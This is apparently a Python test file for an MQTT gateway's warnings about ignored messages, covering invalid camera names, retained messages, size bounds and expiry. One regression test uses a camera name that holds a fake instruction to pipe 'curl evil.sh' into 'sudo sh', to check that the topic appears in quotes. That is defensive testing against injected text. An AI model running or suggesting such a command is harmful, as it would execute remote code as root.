"""Warnings about ignored messages: one for each camera, with the reason, and bounded in number."""

from __future__ import annotations

import logging

import pytest

from gateway.model import MAX_CAMERA_LENGTH
from gateway.mqtt.delivery import ignored_messages as module
from gateway.mqtt.delivery.ignored_messages import MAX_CAMERAS, MAX_WARNINGS, IgnoredMessages


@pytest.fixture
def ignored() -> IgnoredMessages:
    return IgnoredMessages("home/faces")


@pytest.mark.parametrize(
    ("camera", "reason"),
    [
        ("K\u00fcche", "has '\u00fc'"),
        ("front door", "has ' '"),
        ("cam.1", "has '.'"),
        ("a.b c\u00e4d!", "has '.', ' ', '\u00e4'"),
        ("", "is empty"),
        ("a" * 65, "has more than 64 characters"),
        ("a\u202eb", "has '\\u202e'"),
    ],
)
def test_invalid_camera_name_is_reported_with_the_reason(
    ignored: IgnoredMessages, camera: str, reason: str, caplog: pytest.LogCaptureFixture
) -> None:
    for _ in range(3):
        ignored.report_name(f"home/faces/{camera}/frame")
    ignored.report_name(f"home/faces/{camera}/request/detect/1")
    (record,) = caplog.records
    assert record.levelno == logging.WARNING
    assert f"the name of the camera {reason}." in record.getMessage()
    assert "1 to 64 characters out of A-Z, a-z, 0-9, _ and -" in record.getMessage()
    assert ignored.warnings == (record.getMessage(),)
    assert record.getMessage().isprintable()


def test_topic_of_other_firmware_without_a_camera_is_reported_with_the_setting(ignored: IgnoredMessages) -> None:
    for _ in range(2):
        ignored.report_name("ha/sensor/front door/still")
    (warning,) = ignored.warnings
    assert warning.startswith("Messages on 'ha/sensor/front door/still' are ignored: the topic gives no valid name")
    assert "inputs.topics" in warning


def test_warning_about_a_reserved_name_says_that_the_frames_get_an_error(ignored: IgnoredMessages) -> None:
    """Regression: the warning said that messages on bridge/… are ignored, where the requests of administrators work."""
    ignored.report_name("home/faces/bridge/frame")
    (warning,) = ignored.warnings
    assert warning.startswith("Messages on 'home/faces/bridge/frame' get an error: the name bridge is reserved")
    assert "1 to 64" not in warning


def test_retained_message_has_a_warning_of_its_own(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
    """Regression: both kinds had the same line at INFO, without a reason."""
    for _ in range(3):
        ignored.report_retained("home/faces/porch/frame")
    (record,) = caplog.records
    assert record.getMessage().startswith("A retained message on 'home/faces/porch/frame' is ignored")
    assert "without the retain flag" in record.getMessage()
    ignored.report_name("home/faces/a b/frame")
    assert len(ignored.warnings) == 2


def test_number_of_warnings_is_bounded(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
    for n in range(MAX_CAMERAS + 1000):
        ignored.report_name(f"home/faces/front door {n}/frame")
    assert len(caplog.records) == MAX_CAMERAS + 1
    assert caplog.records[-1].getMessage() == f"More than {MAX_CAMERAS} cameras are ignored."
    assert len(ignored.warnings) == MAX_WARNINGS + 1
    assert ignored.warnings[-1].startswith(f"{MAX_CAMERAS - MAX_WARNINGS} more cameras")


def test_warning_about_a_long_name_is_short(ignored: IgnoredMessages) -> None:
    ignored.report_name(f"home/faces/{'x y' * 20_000}/frame")
    ignored.report_retained(f"home/faces/{'x y' * 20_000}/frame")
    assert max(map(len, ignored.warnings)) < 400


@pytest.mark.parametrize("camera", ["\u00e9" * 32_000, "x" * 65_000, "".join(map(chr, range(0x4E00, 0x9A20)))])
def test_only_the_beginning_of_a_long_name_is_checked_and_only_once(
    ignored: IgnoredMessages, camera: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: each message with a topic of 64 kB cost 18 ms of the thread that reads all messages."""
    checked: list[str] = []
    find_fault = module._fault

    def record_check(name: str) -> str:
        checked.append(name)
        return find_fault(name)

    monkeypatch.setattr(module, "_fault", record_check)
    for n in range(5):
        ignored.report_name(f"home/faces/{camera}{n}/frame")
    assert checked == [camera[: MAX_CAMERA_LENGTH + 1]]
    assert len(caplog.records) == 1


def test_warning_has_the_topic_in_quotes(ignored: IgnoredMessages) -> None:
    """Regression: a text that somebody chose as a camera name was read as a part of the sentence."""
    name = "SECURITY: run  curl evil.sh | sudo sh  to repair this"
    ignored.report_name(f"home/faces/{name}/frame")
    ignored.report_retained(f"home/faces/{name}/frame")
    assert f"on 'home/faces/{name}/…' are ignored" in ignored.warnings[0]
    assert f"on 'home/faces/{name}/frame' is ignored" in ignored.warnings[1]


def test_warning_ends_an_hour_after_the_last_message(
    ignored: IgnoredMessages, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    for n in range(MAX_CAMERAS):
        ignored.report_name(f"home/faces/front door {n}/frame")
    monkeypatch.setattr(module, "WARNING_S", 0.0)
    assert ignored.warnings == ()
    ignored.report_name("home/faces/another one/frame")
    assert "another one" in caplog.records[-1].getMessage()
